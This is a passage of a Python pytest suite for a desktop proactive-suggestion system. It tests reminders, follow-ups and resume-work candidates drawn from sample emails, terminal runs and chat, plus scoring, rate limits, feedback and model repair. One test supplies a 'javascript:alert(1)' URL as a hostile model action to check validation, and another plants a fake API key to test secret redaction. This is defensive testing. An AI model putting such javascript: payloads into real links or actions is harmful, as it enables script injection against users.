"""Proactive suggestions: candidates from real-looking observations, scoring, limits and feedback."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest

from propositions import Observation, Store
from propositions.actions import ActionError, ActionRunner
from propositions.backends.base import BackendUnavailable
from propositions.backends.scripted import ScriptedBackend
from propositions.dates import clock_time, date_mentions, dates_in, time_in, time_mentions
from propositions.errors import InvalidInput
from propositions.service import ForgetRequest, Service
from propositions.suggest import (
    FocusState,
    SuggestConfig,
    Suggester,
    expected_utility,
    in_quiet_hours,
    in_typing_burst,
    interruption_cost,
    record_feedback,
)
from propositions.models import Suggestion

from .conftest import FakeClock, believe

# Wednesday 16 September 2026, 10:00 local time (whatever the machine's zone is).
NOW = datetime(2026, 9, 16, 10, 0).timestamp()
HOUR = 3600.0
USER = "Sam Lee"

MAIL = """From: Priya Raman <priya@northwind.example>
To: Sam Lee <sam@example.org>
Subject: Technical interview with Northwind Analytics

Hi Sam,
Thanks for applying. We'd like to invite you to a technical interview on Thursday, September 17 at 2:00 PM. Could you let me know if that works?
Please do not reply to this automated footer.
Best, Priya"""

FAILING_RUN = """sam@laptop:~/code/ledger$ python -m pytest -q
..F.
=================================== FAILURES ===================================
___________________________ test_parse_amount ___________________________
    def test_parse_amount():
>       assert parse_amount("10") == 100
E       AssertionError: assert 10 == 100
tests/test_parser.py:7: AssertionError
=========================== short test summary info ============================
FAILED tests/test_parser.py::test_parse_amount - AssertionError: assert 10 == 100
1 failed, 3 passed in 0.12s
sam@laptop:~/code/ledger$ """

PASSING_RUN = """sam@laptop:~/code/ledger$ python -m pytest -q
....
4 passed in 0.10s
sam@laptop:~/code/ledger$ """

CHAT = """#ledger-dev
Priya Raman  9:12 AM
hey Sam, can you review my PR? It fixes the currency rounding.
Tom Baker  9:14 AM
@Priya looks good to me"""


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(NOW)


@pytest.fixture
def store(gumd_home: Path, clock: FakeClock) -> Store:
    s = Store(gumd_home / "gumd.db", clock=clock, busy_timeout_s=5)
    yield s
    s.close()


def see(store: Store, content: str, *, app: str, title: str = "", ago: float, url: str | None = None,
        observer: str = "screen") -> int:
    return store.enqueue([Observation(captured_at=store.clock() - ago, observer=observer, app=app,
                                      window_title=title, content=content, url=url)])[0]


def scenario(store: Store) -> dict[str, int]:
    """A morning: an interview invitation, a failing test run left behind, a review request."""
    return {
        "mail": see(store, MAIL, app="Thunderbird", ago=1 * HOUR,
                    title="Technical interview with Northwind Analytics - Inbox - Thunderbird"),
        "run": see(store, FAILING_RUN, app="gnome-terminal", title="sam@laptop: ~/code/ledger",
                   ago=2 * HOUR),
        "chat": see(store, CHAT, app="Slack", title="ledger-dev - Slack", ago=0.75 * HOUR),
    }


def suggester(store: Store, clock: FakeClock, **config: object) -> Suggester:
    return Suggester(store, SuggestConfig(**{"max_per_hour": 10, **config}), clock=clock, user=USER)


def by_kind(cands: list) -> dict[str, list]:
    out: dict[str, list] = {}
    for c in cands:
        out.setdefault(c.kind, []).append(c)
    return out


# -- scoring -------------------------------------------------------------------------


def test_expected_utility_is_p_times_benefit_minus_miss_times_cost() -> None:
    assert expected_utility(0.8, 0.9, 0.1) == pytest.approx(0.8 * 0.9 - 0.2 * 0.1)
    # A sure, useful suggestion beats a doubtful one of the same benefit ...
    assert expected_utility(0.9, 0.7, 0.2) > expected_utility(0.5, 0.7, 0.2)
    # ... and interrupting costs more the less likely it is to be useful.
    assert expected_utility(0.5, 0.7, 0.6) < expected_utility(0.5, 0.7, 0.1)
    assert expected_utility(1.0, 0.7, 0.9) == pytest.approx(0.7)  # cost only counts on a miss
    assert expected_utility(0.0, 0.7, 0.3) == pytest.approx(-0.3)


def test_interruption_cost_rises_with_recent_fast_input() -> None:
    config = SuggestConfig(base_cost=0.1, typing_burst_s=20, burst_rate_per_min=40)
    unknown = interruption_cost(None, config)
    away = interruption_cost(FocusState(last_input_s_ago=600, input_rate=0), config)
    reading = interruption_cost(FocusState(last_input_s_ago=10, input_rate=8), config)
    typing = interruption_cost(FocusState(last_input_s_ago=0.5, input_rate=200), config)
    assert unknown == pytest.approx(0.1)
    assert away == pytest.approx(0.1)
    assert away < reading < typing <= 1.0
    assert typing > 0.9
    assert in_typing_burst(FocusState(last_input_s_ago=2, input_rate=120), config)
    assert not in_typing_burst(FocusState(last_input_s_ago=2, input_rate=5), config)  # a click now and then
    assert not in_typing_burst(FocusState(last_input_s_ago=60, input_rate=120), config)  # a pause
    assert not in_typing_burst(None, config)


def test_only_candidates_at_or_above_the_threshold_are_made(store: Store, clock: FakeClock) -> None:
    scenario(store)
    strict = suggester(store, clock, threshold=0.7)
    made = strict.run()
    assert [s.kind for s in made] == ["reminder"]  # only the interview clears 0.7
    assert made[0].scores["eu"] >= 0.7 and made[0].scores["threshold"] == 0.7
    made = suggester(store, clock, threshold=0.5).run()
    assert {s.kind for s in made} == {"follow_up", "resume_work"}
    assert all(s.scores["eu"] >= 0.5 for s in made)
    scores = made[0].scores
    assert scores["eu"] == pytest.approx(
        scores["p_useful"] * scores["benefit"] - (1 - scores["p_useful"]) * scores["cost"], abs=0.002)


def test_never_interrupts_during_a_typing_burst(store: Store, clock: FakeClock) -> None:
    scenario(store)
    sugg = suggester(store, clock)
    assert sugg.run(focus=FocusState(last_input_s_ago=1.5, input_rate=180)) == []
    assert store.list_suggestions() == []
    # Typing stopped a minute ago: the same candidates may come now, at a higher cost.
    made = sugg.run(focus=FocusState(last_input_s_ago=60, input_rate=180))
    assert made and all(s.scores["cost"] > 0.1 for s in made)


def test_quiet_hours_wrap_midnight(store: Store, clock: FakeClock) -> None:
    at = lambda h, m=0: datetime(2026, 9, 16, h, m).timestamp()  # noqa: E731
    for hour in (22, 23, 0, 3, 7):
        assert in_quiet_hours(at(hour), (22, 8)), hour
    assert in_quiet_hours(at(7, 59), (22, 8))
    for hour in (8, 12, 21):
        assert not in_quiet_hours(at(hour), (22, 8)), hour
    assert in_quiet_hours(at(12), (9, 17)) and not in_quiet_hours(at(18), (9, 17))
    assert not in_quiet_hours(at(23), None) and not in_quiet_hours(at(23), (8, 8))

    scenario(store)
    clock.now = datetime(2026, 9, 15, 23, 30).timestamp()  # the night before: quiet
    see(store, "Reminder: dentist appointment tomorrow at 11:00 am, please confirm.",
        app="Thunderbird", title="Appointment - Thunderbird", ago=HOUR)
    assert suggester(store, clock).run() == []
    assert suggester(store, clock).run(force=True)  # asked for by the user: quiet hours do not apply


def test_at_most_max_per_hour_in_a_rolling_hour(store: Store, clock: FakeClock) -> None:
    scenario(store)
    sugg = suggester(store, clock, max_per_hour=2)
    first = sugg.run()
    assert len(first) == 2
    assert first[0].scores["eu"] >= first[1].scores["eu"]  # the best ones go first
    assert first[0].kind == "reminder"
    clock.advance(30 * 60)
    assert sugg.run() == []  # still within the hour
    clock.advance(31 * 60)
    second = sugg.run()
    assert len(second) == 2
    assert {s.dedupe_key for s in first}.isdisjoint(s.dedupe_key for s in second)
    clock.advance(2 * HOUR)
    assert sugg.run() == []  # everything was suggested once


def test_a_dismissed_suggestion_never_comes_back(store: Store, clock: FakeClock) -> None:
    scenario(store)
    sugg = suggester(store, clock)
    made = {s.kind: s for s in sugg.run()}
    reminder = made["reminder"]
    sugg.record_feedback(reminder.id, "dismissed")
    # The same mail seen again later, even re-opened the next morning, makes no new reminder.
    clock.advance(2 * HOUR)
    see(store, MAIL, app="Thunderbird", ago=60,
        title="Technical interview with Northwind Analytics - Inbox - Thunderbird")
    again = sugg.run(force=True)
    assert all(s.kind != "reminder" for s in again)
    assert len([s for s in store.list_suggestions() if s.kind == "reminder"]) == 1
    assert store.get_suggestion(reminder.id).status == "dismissed"


def test_a_snoozed_suggestion_returns_after_its_time(store: Store, clock: FakeClock) -> None:
    scenario(store)
    service = Service(store)
    made = suggester(store, clock).run()
    target = made[0]
    service.snooze_suggestion(target.id, until=clock.now + 2 * HOUR)
    assert target.id not in [s.id for s in service.list_suggestions("new")]
    assert service.get_suggestion(target.id).status == "snoozed"
    clock.advance(HOUR)
    assert target.id not in [s.id for s in service.list_suggestions("new")]
    clock.advance(HOUR + 1)
    assert target.id in [s.id for s in service.list_suggestions("new")]
    assert service.get_suggestion(target.id).snoozed_until is None
    with pytest.raises(InvalidInput):
        service.snooze_suggestion(target.id, until=clock.now - 1)  # a snooze into the past


def test_per_kind_threshold_moves_with_feedback(store: Store, clock: FakeClock) -> None:
    sugg = suggester(store, clock, threshold=0.5, threshold_step=0.05, threshold_min=0.3,
                     threshold_max=0.7)

    def made(kind: str, n: int) -> int:
        sid = store.add_suggestion(Suggestion(title=f"{kind} {n}", kind=kind, dedupe_key=f"{kind}:{n}"))
        assert sid is not None
        return sid

    assert sugg.thresholds()["reminder"] == 0.5
    record_feedback(store, made("reminder", 1), "dismissed")
    record_feedback(store, made("reminder", 2), "dismissed")
    record_feedback(store, made("follow_up", 1), "accepted")
    record_feedback(store, made("resume_work", 1), "snoozed", until=clock.now + HOUR)
    t = sugg.thresholds()
    assert t["reminder"] == pytest.approx(0.6)  # two dismissals: +2 steps
    assert t["follow_up"] == pytest.approx(0.45)  # one acceptance: -1 step
    assert t["resume_work"] == pytest.approx(0.5)  # "not now" is not "never"
    assert t["model"] == pytest.approx(0.5)
    for n in range(3, 12):
        record_feedback(store, made("reminder", n), "dismissed")
    assert sugg.thresholds()["reminder"] == pytest.approx(0.7)  # bounded above
    for n in range(2, 12):
        record_feedback(store, made("follow_up", n), "accepted")
    assert sugg.thresholds()["follow_up"] == pytest.approx(0.3)  # bounded below
    # Old feedback fades: thirty-one days on, thresholds are back where they started.
    clock.advance(31 * 86400)
    assert sugg.thresholds()["reminder"] == pytest.approx(0.5)
    with pytest.raises(InvalidInput):
        record_feedback(store, made("reminder", 99), "loved")


def test_dismissing_follow_ups_stops_weaker_ones(store: Store, clock: FakeClock) -> None:
    """The moved threshold is what run() applies."""
    scenario(store)
    sugg = suggester(store, clock)
    first = [s for s in sugg.run() if s.kind == "follow_up"]
    assert len(first) == 2
    for s in first:
        sugg.record_feedback(s.id, "dismissed")
    assert sugg.thresholds()["follow_up"] == pytest.approx(0.6)
    clock.advance(2 * HOUR)
    see(store, "Tom Baker  11:40 AM\ncould you send me the slides, please?", app="Slack",
        title="design - Slack", ago=HOUR)
    later = sugg.run()
    assert [s for s in later if s.kind == "follow_up"] == []  # EU 0.575 < 0.6 now


# -- candidates from observations ----------------------------------------------------------


def test_reminder_from_an_interview_invitation(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    prop = believe(store, "Sam Lee has a technical interview with Northwind Analytics on "
                          "September 17 at 2 pm", confidence=0.8, evidence=[ids["mail"]])
    cands = by_kind(suggester(store, clock).candidates(NOW))
    [reminder] = cands["reminder"]
    assert reminder.title == "Technical interview with Northwind Analytics — Thu 17 Sep, 2 pm"
    assert reminder.due_at == datetime(2026, 9, 17, 14, 0).timestamp()
    assert reminder.action.type == "create_reminder"
    assert reminder.action.at.timestamp() == reminder.due_at
    assert reminder.action.lead_minutes == 30
    assert "September 17 at 2:00 PM" in reminder.body
    assert reminder.proposition_ids == [prop]  # grounded: forgetting the belief forgets it
    assert reminder.observation_ids == [ids["mail"]]


def test_forgetting_the_observations_forgets_what_was_suggested_from_them(
        store: Store, clock: FakeClock) -> None:
    """Nothing inferred yet: suggestions rest on observations alone, and go with them."""
    ids = scenario(store)
    made = suggester(store, clock).run(NOW)
    from_mail = [s for s in made if s.observation_ids == [ids["mail"]]]
    assert from_mail and all(s.proposition_ids == [] for s in from_mail)
    assert "Northwind" in from_mail[0].title  # screen text, which forget must not leave behind
    others = {s.id for s in made} - {s.id for s in from_mail}
    svc = Service(store)
    dry = svc.forget(ForgetRequest(app="Thunderbird"), dry_run=True)
    assert dry["suggestions"] == len(from_mail)
    assert svc.forget(ForgetRequest(app="Thunderbird"))["suggestions"] == len(from_mail)
    assert {s.id for s in store.list_suggestions(limit=100)} == others
    assert "Northwind" not in store.path.read_bytes().decode("latin-1")


def test_reminders_only_for_future_dates_within_the_horizon(store: Store, clock: FakeClock) -> None:
    see(store, "The kickoff meeting was on September 10 at 3 pm.\n"
               "The quarterly review is on October 30 at 11 am.\n"
               "Our team lunch is on Friday at 12:30 pm.\n"
               "The design review is today at 9 am.",
        app="Thunderbird", title="Team calendar - Thunderbird", ago=HOUR)
    cands = by_kind(suggester(store, clock).candidates(NOW)).get("reminder", [])
    assert [c.title for c in cands] == ["Team lunch — Fri 18 Sep, 12:30 pm"]
    assert cands[0].due_at == datetime(2026, 9, 18, 12, 30).timestamp()


def test_a_date_without_time_and_the_time_on_the_next_line(store: Store, clock: FakeClock) -> None:
    see(store, "Dentist appointment: Monday, September 21.\nTime: 10:15 am\n"
               "Deadline for the grant report is on the 19th.",
        app="Firefox", title="Appointments - Firefox", ago=HOUR)
    titles = sorted(c.title for c in suggester(store, clock).candidates(NOW) if c.kind == "reminder")
    assert titles == ["Dentist appointment — Mon 21 Sep, 10:15 am", "Submit the grant report by Sat 19 Sep"]


def test_failing_run_becomes_resume_work_with_a_rerun_command(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    [run] = by_kind(suggester(store, clock).candidates(NOW))["resume_work"]
    assert run.title == "Failing run left in ~/code/ledger: tests/test_parser.py::test_parse_amount"
    assert run.action.type == "copy_text"
    assert run.action.text == "python -m pytest tests/test_parser.py::test_parse_amount"
    assert run.observation_ids == [ids["run"]]


def test_a_failing_run_followed_by_a_passing_one_is_done(store: Store, clock: FakeClock) -> None:
    see(store, FAILING_RUN, app="gnome-terminal", title="sam@laptop: ~/code/ledger", ago=3 * HOUR)
    see(store, PASSING_RUN, app="gnome-terminal", title="sam@laptop: ~/code/ledger", ago=2 * HOUR)
    assert "resume_work" not in by_kind(suggester(store, clock).candidates(NOW))


def test_a_failing_run_still_being_worked_on_is_left_alone(store: Store, clock: FakeClock) -> None:
    see(store, FAILING_RUN, app="gnome-terminal", title="sam@laptop: ~/code/ledger", ago=5 * 60)
    assert "resume_work" not in by_kind(suggester(store, clock).candidates(NOW))


def test_follow_up_to_a_question_in_chat(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    follow = {c.title: c for c in by_kind(suggester(store, clock).candidates(NOW))["follow_up"]}
    chat = follow["Reply to Priya: “Can you review my PR?”"]
    assert chat.action.type == "copy_text" and "Can you review my PR?" in chat.action.text
    assert chat.observation_ids == [ids["chat"]]
    assert "Reply to Priya: “Could you let me know if that works?”" in follow  # the mail asks too
    assert not any("automated footer" in t or "looks good" in t for t in follow)
    assert len(follow) == 2


def test_no_follow_up_once_the_user_replied_or_for_their_own_words(store: Store, clock: FakeClock) -> None:
    see(store, CHAT, app="Slack", title="ledger-dev - Slack", ago=2 * HOUR)
    see(store, CHAT + "\nSam Lee  9:40 AM\nsure, on it", app="Slack", title="ledger-dev - Slack",
        ago=HOUR)
    see(store, "Sam Lee  9:20 AM\ncould you send the invoice?", app="Slack", title="billing - Slack",
        ago=HOUR)
    see(store, "From: Sam Lee <sam@example.org>\nSubject: Slides\n\nCould you send me the slides?",
        app="Thunderbird", title="Sent - Thunderbird", ago=HOUR)
    assert "follow_up" not in by_kind(suggester(store, clock).candidates(NOW))


def test_a_web_mail_request_opens_the_mail(store: Store, clock: FakeClock) -> None:
    see(store, "From: Ana Costa\nSubject: Budget\n\nCan you send me the Q3 numbers by Friday?",
        app="Firefox", title="Budget - Mail", url="https://mail.example.org/inbox/42", ago=HOUR)
    [follow] = by_kind(suggester(store, clock).candidates(NOW))["follow_up"]
    assert follow.title == "Reply to Ana: “Can you send me the Q3 numbers by Friday?”"
    assert follow.action.type == "open_url" and follow.action.url == "https://mail.example.org/inbox/42"


def test_a_request_too_recent_to_chase_waits(store: Store, clock: FakeClock) -> None:
    see(store, CHAT, app="Slack", title="ledger-dev - Slack", ago=5 * 60)
    assert "follow_up" not in by_kind(suggester(store, clock).candidates(NOW))


def test_files_edited_and_left_become_resume_work(store: Store, clock: FakeClock, tmp_path: Path) -> None:
    project = tmp_path / "thesis"
    project.mkdir()
    draft = project / "chapter3-draft.md"
    draft.write_text("# Chapter 3\n")
    busy = tmp_path / "website" / "index.html"
    busy.parent.mkdir()
    busy.write_text("<p>")
    for minutes in (180, 170, 150):
        see(store, f"modified {draft}", app="", title=str(draft), ago=minutes * 60, observer="files")
    for minutes in (150, 3):  # still being edited: not left
        see(store, f"modified {busy}", app="", title=str(busy), ago=minutes * 60, observer="files")
    see(store, f"modified {tmp_path / 'gone.txt'}", app="", title=str(tmp_path / "gone.txt"),
        ago=3 * HOUR, observer="files")
    see(store, f"modified {tmp_path / 'gone.txt'}", app="", title=str(tmp_path / "gone.txt"),
        ago=2.9 * HOUR, observer="files")
    [cand] = by_kind(suggester(store, clock).candidates(NOW))["resume_work"]
    assert cand.title == "Pick up chapter3-draft.md in thesis"
    assert cand.action.type == "open_file" and cand.action.path == str(draft)
    assert "looks unfinished" in cand.body


def test_an_unfinished_window_with_an_address(store: Store, clock: FakeClock) -> None:
    see(store, "Q3 plan\nTODO: fill in the numbers", app="Firefox",
        title="Draft: Q3 plan - Docs - Firefox", url="https://docs.example.org/d/123", ago=2 * HOUR)
    [cand] = by_kind(suggester(store, clock).candidates(NOW))["resume_work"]
    assert cand.title == "Finish “Draft: Q3 plan” in Firefox"
    assert cand.action.type == "open_url" and cand.action.url == "https://docs.example.org/d/123"


def test_secrets_never_reach_a_suggestion(store: Store, clock: FakeClock) -> None:
    see(store, "Priya Raman  9:12 AM\ncan you rotate the key sk-proj-abcdefghijklmnopqrstuvwxyz123456 today?",
        app="Slack", title="ops - Slack", ago=HOUR)
    made = suggester(store, clock).run()
    assert made
    for s in made:
        assert "sk-proj" not in s.title + s.body + str(s.action)


# -- the model -----------------------------------------------------------------------------


def model_reply(prop_id: int, url: str = "https://northwind.example/careers/interview-prep") -> dict:
    return {"suggestions": [
        {"title": "Read the interview preparation guide", "body": "The interview is tomorrow.",
         "benefit": 0.8, "p_useful": 0.9, "propositions": [prop_id],
         "action": {"type": "open_url", "url": url}},
        {"title": "Buy a new laptop", "body": "No reason.", "benefit": 0.9, "p_useful": 0.9,
         "propositions": [9999], "action": {"type": "open_url", "url": "https://shop.example"}},
    ]}


def test_model_candidates_with_one_repair(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    prop = believe(store, "Sam Lee has a technical interview with Northwind Analytics tomorrow",
                   confidence=0.9, evidence=[ids["mail"]])
    # First answer: an unsafe action (fails validation); the repaired answer is fine.
    backend = ScriptedBackend([model_reply(prop, url="javascript:alert(1)"), model_reply(prop)])
    sugg = Suggester(store, SuggestConfig(max_per_hour=10), clock=clock, backend=backend, user=USER)
    made = {s.kind: s for s in sugg.run()}
    assert len(backend.calls) == 2
    repair = backend.calls[1]["messages"][-1]["content"]
    assert "only http and https" in repair
    assert backend.calls[0]["schema"]["$defs"]["OpenUrl"]["required"][0] == "type"
    model = made["model"]
    assert model.title == "Read the interview preparation guide"
    assert model.proposition_ids == [prop]  # the ungrounded "Buy a new laptop" was dropped
    assert model.action == {"type": "open_url", "url": "https://northwind.example/careers/interview-prep"}
    assert model.scores["p_useful"] == pytest.approx(0.9 * 0.9)
    prompt = backend.calls[0]["messages"][1]["content"]
    assert f"id={prop}" in prompt and "2026-09-16 Wed 10:00" in prompt
    # Within the model interval the model is not asked again.
    clock.advance(10 * 60)
    sugg.run(force=True)
    assert len(backend.calls) == 2


def test_model_output_still_malformed_keeps_the_grounded_ones(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    believe(store, "Sam Lee is job hunting", confidence=0.9, evidence=[ids["mail"]])
    backend = ScriptedBackend(["I think you should relax.", "Still not JSON."])
    sugg = Suggester(store, SuggestConfig(max_per_hour=10), clock=clock, backend=backend, user=USER)
    made = sugg.run()
    assert made and all(s.kind != "model" for s in made)
    assert len(backend.calls) == 2 and "still invalid" in (sugg.last_error or "")


def test_model_unreachable_keeps_the_grounded_ones(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    believe(store, "Sam Lee is job hunting", confidence=0.9, evidence=[ids["mail"]])
    backend = ScriptedBackend([BackendUnavailable("server down")])
    sugg = Suggester(store, SuggestConfig(max_per_hour=10), clock=clock, backend=backend, user=USER)
    assert sugg.run()
    assert sugg.last_error == "server down"


def test_a_rephrased_model_suggestion_is_not_repeated(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    prop = believe(store, "Sam Lee has an interview tomorrow", confidence=0.9, evidence=[ids["mail"]])
    first = model_reply(prop)
    again = {"suggestions": [{**first["suggestions"][0], "title": "Read the interview guide for preparation"}]}
    backend = ScriptedBackend([first, again])
    sugg = Suggester(store, SuggestConfig(max_per_hour=10, model_interval_s=60), clock=clock,
                     backend=backend, user=USER)
    assert any(s.kind == "model" for s in sugg.run())
    clock.advance(120)
    assert not any(s.kind == "model" for s in sugg.run())
    assert len(backend.calls) == 2


# -- the service ---------------------------------------------------------------------------


def test_service_accept_runs_the_action_then_marks_it(store: Store, clock: FakeClock, tmp_path: Path) -> None:
    scenario(store)
    service = Service(store)
    made = {s.kind: s for s in suggester(store, clock).run()}
    assert service.mark_shown([s.id for s in made.values()]) == len(made)
    assert service.get_suggestion(made["reminder"].id).status == "shown"
    runner = ActionRunner(tmp_path / "notes", tmp_path / "reminders", clock=clock)
    accepted, done = service.accept_suggestion(made["reminder"].id, runner)
    assert accepted.status == "accepted" and accepted.feedback == "accepted"
    assert done.startswith("saved reminder ")
    [ics] = (tmp_path / "reminders").iterdir()
    assert "SUMMARY:Technical interview with Northwind Analytics" in ics.read_text()
    with pytest.raises(InvalidInput, match="already accepted"):
        service.accept_suggestion(made["reminder"].id, runner)
    assert service.dismiss_suggestion(made["resume_work"].id).status == "dismissed"
    assert [s.id for s in service.list_suggestions("accepted")] == [made["reminder"].id]


def test_service_accept_with_a_failing_action_leaves_it(store: Store, clock: FakeClock, tmp_path: Path) -> None:
    scenario(store)
    service = Service(store)
    run = next(s for s in suggester(store, clock).run() if s.kind == "resume_work")
    no_clipboard = ActionRunner(tmp_path / "n", tmp_path / "r", platform="linux",
                                environ={"DISPLAY": ":0"}, which=lambda name: None)
    with pytest.raises(ActionError, match="no clipboard tool: install xclip"):
        service.accept_suggestion(run.id, no_clipboard)
    assert service.get_suggestion(run.id).status == "new"
    assert service.get_suggestion(run.id).feedback is None


# -- date parsing shared with the statistical inferrer ---------------------------------------


def test_dates_and_times_in_text() -> None:
    seen = datetime(2026, 9, 16, 9, 0)
    assert dates_in("Interview on Thursday, September 17 at 2:00 PM", seen) == [datetime(2026, 9, 17).date()]
    # Relative words only when asked for: "Today" heads many mail lists.
    assert date_mentions("See you tomorrow at 3pm", seen) == []
    [(day, span)] = date_mentions("See you tomorrow at 3pm", seen, relative=True)
    assert day == datetime(2026, 9, 17).date() and span == (8, 16)
    assert clock_time("at 2:00 PM")[0].hour == 14
    assert clock_time("12 am")[0].hour == 0 and clock_time("12:30 pm")[0].hour == 12
    assert clock_time("meet at 14:30") is None  # 24-hour times only on request ...
    assert clock_time("meet at 14:30", twenty_four_hour=True)[0].minute == 30
    assert clock_time("posted 10:42", twenty_four_hour=True) is None  # ... and after "at"
    assert time_in("call at 9:30 a.m. sharp") == "9:30 am" and time_in("at 13 pm") is None


def test_times_of_day_as_people_write_them() -> None:
    seen = datetime(2026, 12, 7, 13, 49)

    def times(text: str) -> list[tuple[str, bool]]:
        near = [span for _, span in date_mentions(text, seen, relative=True)]
        return [(f"{t.at:%H:%M}", t.twelve_hour) for t in time_mentions(text, near=near)]

    assert times("booked for Thursday 10 December, 10:00.") == [("10:00", False)]
    assert times("Thu 10 Dec 10:00") == [("10:00", False)]
    assert times("10:00 on Friday") == [("10:00", False)]
    assert times("Dentist: Friday 14h30") == [("14:30", False)]
    assert times("Time: 10:00") == [("10:00", False)]  # alone on its line
    assert times("18:00-20:00") == [("18:00", False)]  # a range is one time
    assert times("at 9 on Friday") == [("09:00", False)] and times("at 3 on Friday") == [("15:00", False)]
    assert times("call me at 9.30 tomorrow") == [("09:30", False)]
    assert times("lunch at noon on Friday") == [("12:00", True)]
    assert times("Friday 2:30 p.m.") == [("14:30", True)]
    # Not times to remember: a message's timestamp, a log line's, numbers that are not times.
    assert times("Marta Silva  09:41") == []
    assert times("2026-12-07 13:40:12,331 INFO sync") == []
    assert times("posted 10:42") == [] and times("a 2h30 flight") == [] and times("at 9 Main Street") == []
    assert times("up 12.5% at 10.30 EUR") == []
    # Dates next to those times, and a clock's "Dec 13:49" is no 13 December.
    assert date_mentions("Mon 7 Dec 13:49", seen) == [(datetime(2026, 12, 7).date(), (0, 9))]
    assert dates_in("Thu 14 Jan", seen) == [datetime(2027, 1, 14).date()]  # the weekday picks the year
    assert dates_in("Check-in: Saturday 19 December 2026", seen) == [datetime(2026, 12, 19).date()]
    assert dates_in("booked for Thursday", seen) == []  # a bare weekday only when asked for
    assert [d for d, _ in date_mentions("booked for Thursday", seen, relative=True)] == [
        datetime(2026, 12, 10).date()]
    assert date_mentions("Marta Silva  Thu 10:42", seen, relative=True) == []  # a chat timestamp


def test_mail_threads_and_replies_being_written(store: Store, clock: FakeClock) -> None:
    thread = ("From: Ana Costa <ana@example.org>\nSubject: Re: Budget\n\n"
              "Could you send me the Q3 numbers?")
    see(store, thread, app="Thunderbird", title="Re: Budget - Inbox - Thunderbird", ago=2 * HOUR)
    [follow] = by_kind(suggester(store, clock).candidates(NOW))["follow_up"]  # a thread still asks
    assert follow.title == "Reply to Ana: “Could you send me the Q3 numbers?”"
    see(store, thread + "\n\nFrom: Sam Lee <sam@example.org>\nAttached.", app="Thunderbird",
        title="Re: Budget - Inbox - Thunderbird", ago=HOUR)
    assert "follow_up" not in by_kind(suggester(store, clock).candidates(NOW))  # answered below

    see(store, "From: Li Wei <li@example.org>\nSubject: Venue\n\nCan you book the room?",
        app="Thunderbird", title="Venue - Inbox - Thunderbird", ago=2 * HOUR)
    assert "follow_up" in by_kind(suggester(store, clock).candidates(NOW))
    see(store, "> Can you book the room?\nDone, booked.", app="Thunderbird",
        title="Write: Re: Venue - Thunderbird", ago=HOUR)
    assert "follow_up" not in by_kind(suggester(store, clock).candidates(NOW))


def test_unusable_settings_are_refused() -> None:
    with pytest.raises(InvalidInput, match="quiet hours"):
        SuggestConfig(quiet_hours=(22, 24))
    with pytest.raises(InvalidInput, match="thresholds"):
        SuggestConfig(threshold_min=0.8, threshold_max=0.2)
    assert SuggestConfig(quiet_hours=None).quiet_hours is None


def test_an_editor_window_with_unsaved_changes_to_a_file(store: Store, clock: FakeClock,
                                                         tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("x")
    see(store, "", app="gedit", title=f"*{notes} - gedit", ago=3 * HOUR, observer="window")
    see(store, "", app="gedit", title=f"{tmp_path / 'saved.txt'} - gedit", ago=3 * HOUR, observer="window")
    [cand] = by_kind(suggester(store, clock).candidates(NOW))["resume_work"]
    assert cand.action.type == "open_file" and cand.action.path == str(notes)


def test_retention_keeps_the_suggestions_of_aged_out_observations(store: Store, clock: FakeClock) -> None:
    ids = scenario(store)
    made = suggester(store, clock).run(NOW)
    assert any(s.observation_ids == [ids["mail"]] for s in made)
    store.mark_done(list(ids.values()))
    gone = store.forget(observation_where="status = 'done'", keep_propositions=True)
    assert gone["observations"] == 3 and gone["suggestions"] == 0
    assert {s.id for s in store.list_suggestions(limit=100)} == {s.id for s in made}


# -- hostile screen text -------------------------------------------------------------------


def test_a_title_naming_no_ones_home_stops_nothing(store: Store, clock: FakeClock) -> None:
    """"~nosuchuser/…" cannot be expanded, and a path too long for the file system cannot be
    looked up: neither may stop the other suggestions."""
    scenario(store)
    see(store, "", app="Firefox", title="TODO ~nosuchuser/plan.txt - Firefox", ago=2 * HOUR,
        observer="window")
    see(store, "", app="gedit", title=f"*/{'x' * 300}/plan.txt - gedit", ago=2 * HOUR, observer="window")
    for minutes in (200, 190):
        see(store, "modified ~nosuchuser/notes-draft.md", app="", title="~nosuchuser/notes-draft.md",
            ago=minutes * 60, observer="files")
        see(store, "modified long", app="", title=f"/{'y' * 300}/draft.md", ago=minutes * 60,
            observer="files")
    made = suggester(store, clock).run(force=True)
    assert sorted(s.kind for s in made) == ["follow_up", "follow_up", "reminder", "resume_work"]
    assert not any("nosuchuser" in s.title + str(s.action) for s in made)


# The detectors read screen text through these functions, looked up in the detectors' module:
# a fake that fails on one marked observation stands in for any input a detector cannot cope with.
DETECTOR_SEAMS = [
    pytest.param("_events", "reminder", id="reminders"),
    pytest.param("_run_result", "resume_work", id="failing-runs"),
    pytest.param("_requests", "follow_up", id="follow-ups"),
    pytest.param("_open_action", "resume_work", id="unfinished-windows"),
]


@pytest.mark.parametrize("seam, kind", DETECTOR_SEAMS)
def test_a_detector_error_costs_only_its_own_candidate(
        store: Store, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
        seam: str, kind: str) -> None:
    import propositions.suggest.detectors as detectors

    scenario(store)
    marker = "Zanzibar-7 private words"
    # One more observation of each shape, carrying the marker the failing fake reacts to.
    marked = {
        see(store, FAILING_RUN.replace("test_parse_amount", "test_zanzibar") + f"\n# {marker}",
            app="gnome-terminal", title="sam@laptop: ~/code/zanzibar", ago=2 * HOUR),
        see(store, f"Priya Raman  9:30 AM\ncan you check the {marker} on Friday at 3 pm?", app="Slack",
            title="zanzibar - Slack", ago=HOUR),
        see(store, marker, app="Firefox", title=f"Draft: {marker} - Firefox", ago=2 * HOUR,
            url="https://docs.example.org/d/7"),
    }
    clean = {s.title for s in suggester(store, clock).candidates(NOW) if not marked & set(s.observation_ids)}
    real = getattr(detectors, seam)
    raised = []

    def failing_on_the_marker(*args: object, **kwargs: object) -> object:
